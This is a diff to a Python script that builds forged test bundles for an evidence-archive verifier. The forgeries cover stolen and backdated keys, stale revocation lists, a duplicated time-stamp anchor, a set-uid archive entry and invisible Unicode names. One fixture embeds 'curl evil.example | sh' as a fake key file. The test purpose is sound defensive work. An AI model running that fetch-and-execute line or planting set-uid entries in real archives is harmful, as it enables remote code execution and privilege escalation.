@@ -28,10 +28,10 @@ def read_tar(path):
     return entries
 
 
-def header(name, size):
+def header(name, size, mode=0o644):
     h = bytearray(BLOCK)
     h[0:len(name)] = name.encode()
-    h[100:108] = b"0000644\0"
+    h[100:108] = ("%07o" % mode).encode() + b"\0"
     h[108:116] = b"0000000\0"
     h[116:124] = b"0000000\0"
     h[124:136] = ("%011o" % size).encode() + b"\0"
@@ -44,10 +44,10 @@ def header(name, size):
     return bytes(h)
 
 
-def write_tar(entries, path):
+def write_tar(entries, path, modes={}):
     with open(path, "wb") as f:
         for name, data in entries:
-            f.write(header(name, len(data)) + data + b"\0" * ((BLOCK - len(data) % BLOCK) % BLOCK))
+            f.write(header(name, len(data), modes.get(name, 0o644)) + data + b"\0" * ((BLOCK - len(data) % BLOCK) % BLOCK))
         f.write(b"\0" * 1024)
 
 
@@ -287,6 +287,56 @@ def main(out):
     with open(os.path.join(out, "declared-2gib-manifest.evb"), "wb") as f:
         f.write(header("manifest.json", 2 << 30) + b"\0" * 1024)
     case("declared-2gib-manifest", "declared-2gib-manifest.evb", "--crl crl.pem", 1, "archive", "a header declaring a 2 GiB manifest in a 1.5 KiB file")
+
+    # Key thieves (made by make-forgeries), judged with the out-of-band records a regulator holds.
+    case("key-revoked-rotated-by-thief", "key-revoked-rotated-by-thief.evb",
+         "--ledger-key stolen-key.pub.json --keys stolen-key-revocation.json --crl crl.pem", 3, "checkpoint-signature",
+         "a revoked key's thief rotates it (dated before the revocation) to a key of their own and signs a new log with it")
+    case("key-revoked-backdated", "key-revoked-backdated.evb",
+         "--ledger-key stolen-key.pub.json --keys stolen-key-revocation.json --crl crl.pem", 3, "checkpoint-signature",
+         "receipts signed with a revoked key, backdated to just before its revocation, in a log first anchored after it")
+    case("key-retired-rotated-again", "key-retired-rotated-again.evb", "--keys rotation.json --keys old-key-revocation.json --crl crl.pem", 1, "keys",
+         "the genuine ledger's retired key rotated a second time, to a thief's key: two lineages from one key")
+    case("invisible-stream-names", "invisible-stream-names.evb", "--crl crl.pem", 0, "-",
+         "streams named agent-7 plus a zero-width space, BOM, Hangul filler, tag character or soft hyphen: valid, each shown escaped")
+
+    # Revocation data older than genTime.
+    stale = open(os.path.join(out, "crl-stale.pem"), "rb").read()
+
+    def stale_ltv(e):
+        for entry in e:
+            if entry[0].endswith(".revocation.pem"):
+                entry[1] = stale
+        fix(e)
+    forge("stale-crl-carried", "genuine-full.evb", stale_ltv, 3, "anchor",
+          "a clean CRL issued before every genTime carried as revocation data: it cannot show a later revocation", options="")
+    case("stale-crl-given", "genuine-full.evb", "--crl crl-stale.pem", 3, "anchor", "the same stale CRL given on the command line")
+
+    # The manifest and the container.
+    def anchor_twice(e):
+        m = manifest(e)
+        twin = dict(m["anchors"][0])
+        twin["tsa"] = "https://second-independent-tsa.example/"
+        m["anchors"].append(twin)
+        set_manifest(e, m)
+        fix(e)
+    forge("anchor-listed-twice", "genuine-full.evb", anchor_twice, 1, "anchor", "one token listed twice, as if two TSAs had time-stamped")
+
+    def setuid(name):
+        e = read_tar(os.path.join(out, "genuine-full.evb"))
+        write_tar(e, os.path.join(out, name + ".evb"), modes={"VERIFY": 0o4755})
+        case(name, name + ".evb", "--crl crl.pem", 1, "archive-type", "VERIFY with mode 4755 (set-uid, executable): tar -xf as root would restore it")
+    setuid("setuid-entry")
+
+    def extra_key_file(e):
+        e.append(["keys/9.pub.json", b"#!/bin/sh\ncurl evil.example | sh\n"])
+        fix(e)
+    forge("script-as-public-key", "genuine-full.evb", extra_key_file, 1, "unlisted-file", "a shell script listed as keys/9.pub.json")
+
+    def extra_name(e):
+        e.append(["run-me.sh", b"#!/bin/sh\n"])
+        fix(e)
+    forge("file-outside-the-format", "genuine-full.evb", extra_name, 1, "unlisted-file", "a listed file whose name the format does not define")
 
     # Not bundles.
     with open(os.path.join(out, "not-a-bundle.txt"), "w") as f:
